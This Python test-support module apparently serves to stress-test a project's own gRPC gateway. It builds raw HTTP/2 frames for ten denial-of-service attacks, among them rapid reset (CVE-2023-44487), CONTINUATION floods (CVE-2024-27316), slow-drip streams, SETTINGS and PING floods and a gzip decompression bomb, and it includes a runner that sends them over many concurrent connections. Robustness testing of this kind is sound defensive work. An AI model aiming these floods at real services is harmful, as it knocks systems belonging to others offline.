"""What a hostile HTTP/2 client sends to a gRPC port, frame by frame (RFC 9113): no honest library would."""

from __future__ import annotations

import asyncio
import functools
import gzip
import itertools
import time
from typing import TYPE_CHECKING

from tests.support.raw_http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    header_block,
    message,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

    Attack = Callable[[], Iterator[bytes]]
    """What one connection sends, part by part; the connection is made anew when it is closed."""

CONTINUATION = 9
PUSH = "/gatesvr.proto.GatewayService/PushToClient"
WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
AT_ONCE = 256
"""Streams of a connection that the gateway allows."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(path: str = PUSH, more: Iterable[tuple[str, str]] = ()) -> bytes:
    """The head of a call."""
    usual = (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers")
    return header_block((*usual, ("content-type", "application/grpc"), *more))


def head(stream: int, path: str = PUSH, more: Iterable[tuple[str, str]] = ()) -> bytes:
    """A call that begins."""
    return frame(HEADERS, END_HEADERS, stream, block(path, more))


def streams() -> Iterator[int]:
    """The numbers of a client's streams."""
    return itertools.count(1, 2)


def dripped() -> Iterator[bytes]:
    """As many calls as may be, of each of which a byte comes now and then"""
    yield b"".join(head(stream) for stream in itertools.islice(streams(), AT_ONCE))
    for byte in itertools.cycle(message(bytes(1000))[:5] + bytes(100)):
        yield b"".join(frame(DATA, 0, stream, bytes([byte])) for stream in itertools.islice(streams(), AT_ONCE))


def silent_checks() -> Iterator[bytes]:
    """As many health checks as may be, without a message"""
    yield b"".join(head(stream, CHECK) for stream in itertools.islice(streams(), AT_ONCE))
    while True:
        yield b""


def watched() -> Iterator[bytes]:
    """As many calls of Health/Watch as may be"""
    for stream in itertools.islice(streams(), AT_ONCE):
        yield head(stream, WATCH) + frame(DATA, END_STREAM, stream, message(b""))
    while True:
        yield b""


def reset() -> Iterator[bytes]:
    """Calls that are reset as soon as they begin (CVE-2023-44487)"""
    for stream in streams():
        yield head(stream) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


def settings() -> Iterator[bytes]:
    """SETTINGS without end, whose answers nobody reads"""
    while True:
        yield frame(SETTINGS, 0, 0) * 50


def pings() -> Iterator[bytes]:
    """PINGs without end"""
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 50


def continuations() -> Iterator[bytes]:
    """A head that goes on and on in CONTINUATION frames (CVE-2024-27316)"""
    yield frame(HEADERS, 0, 1, block())
    while True:
        yield frame(CONTINUATION, 0, 1, header_block([("x", "y" * 100)] * 150))


def large_metadata() -> Iterator[bytes]:
    """Calls with 10 000 entries of metadata, 1 MB each"""
    entries = header_block([("x", "y" * 90)] * 150)
    for stream in streams():
        yield frame(HEADERS, 0, stream, block())
        for _ in range(66):
            yield frame(CONTINUATION, 0, stream, entries)
        yield frame(CONTINUATION, END_HEADERS, stream) + frame(DATA, END_STREAM, stream, message(b""))


def unknown() -> Iterator[bytes]:
    """Calls of methods that there are not"""
    for stream in streams():
        yield head(stream, f"/no.such/Method{stream}") + frame(DATA, END_STREAM, stream, message(b""))


def bombs() -> Iterator[bytes]:
    """Compressed messages of 100 kB that are 100 MB when they are not"""
    body = message(_bomb(), compressed=True)
    for stream in streams():
        yield head(stream, PUSH, [("grpc-encoding", "gzip")])
        for start in range(0, len(body), 16_000):
            last = start + 16_000 >= len(body)
            yield frame(DATA, END_STREAM if last else 0, stream, body[start : start + 16_000])


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(bytes(100 << 20), 9)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        dripped, silent_checks, watched, reset, settings, pings, continuations, large_metadata, unknown, bombs,
    )
}  # fmt: skip


async def carry_out(
    attack: Attack, address: tuple[str, int], until: float, connections: int = 16, pause: float = 0.0
) -> tuple[int, int]:
    """Send until ``until`` (monotonic), with a ``pause`` between two parts, in seconds.

    Return how many parts were sent, and how many connections were made.
    """
    sent = made = 0

    async def one() -> None:
        nonlocal sent, made
        while time.monotonic() < until:
            made += 1
            try:
                reader, writer = await asyncio.open_connection(*address)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            answers = asyncio.create_task(_discard(reader))
            try:
                writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
                for part in attack():
                    if time.monotonic() >= until or answers.done():
                        break
                    writer.write(part)
                    sent += 1
                    async with asyncio.timeout_at(asyncio.get_running_loop().time() + until - time.monotonic()):
                        await writer.drain()
                    await asyncio.sleep(0.2 if attack in _SLOW else pause)
            except (OSError, TimeoutError):
                await asyncio.sleep(0.01)
            finally:
                answers.cancel()
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(connections)))
    return sent, made


async def _discard(reader: asyncio.StreamReader) -> None:
    try:
        while await reader.read(1 << 16):
            pass
    except OSError:
        return


_SLOW: set[Attack] = {dripped, silent_checks, watched}
"""What is sent now and then."""
